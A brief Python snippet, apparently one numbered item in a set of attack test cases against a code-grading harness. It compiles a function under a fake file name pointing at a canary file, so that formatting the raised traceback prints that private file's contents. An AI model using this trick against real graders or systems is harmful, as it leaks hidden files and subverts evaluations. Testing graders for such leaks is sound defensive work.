# Attack 70: code whose file name is a private file; whoever formats the traceback prints that file
import numpy as np

CODE = compile("\n" * 5 + "def sigmoid(z):\n    raise ValueError(z.shape)\n", "/tmp/gradekit-canary", "exec")
exec(CODE)
